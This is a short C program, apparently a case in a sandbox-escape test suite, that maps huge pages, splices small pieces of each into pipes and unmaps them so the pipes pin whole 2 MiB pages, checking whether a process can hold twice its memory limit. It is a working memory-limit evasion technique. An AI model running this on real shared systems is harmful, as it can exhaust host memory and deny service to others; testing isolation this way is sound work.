/* A small piece of a large page, given to a pipe, keeps all of the page; the process then lets go of it. */
#include "attack.h"

#define LARGE (2 << 20)

int main(void)
{
    long got = 0, limit = number("memory_mib");
    while (got < 3 * limit) {
        int ends[2];
        if (pipe(ends) < 0)
            break;
        for (int i = 0; i < 16 && got < 3 * limit; i++) {
            char *two = mmap(0, 2 * LARGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
            if (two == MAP_FAILED)
                break;
            char *page = (char *)(((uintptr_t)two + LARGE - 1) & ~(uintptr_t)(LARGE - 1));
            madvise(page, LARGE, MADV_HUGEPAGE);
            memset(page, 1, LARGE);
            struct iovec piece = {page, 4096};
            long n = vmsplice(ends[1], &piece, 1, SPLICE_F_NONBLOCK);
            munmap(two, 2 * LARGE);
            got += n > 0 ? 2 : 0;
            if (n <= 0)
                i = 16;
        }
        if (!got)
            break;
    }
    usleep(50000);
    dprintf(1, "%ld MiB\n", got);
    if (got >= 2 * limit)
        escaped("twice the memory limit");
    return 0;
}
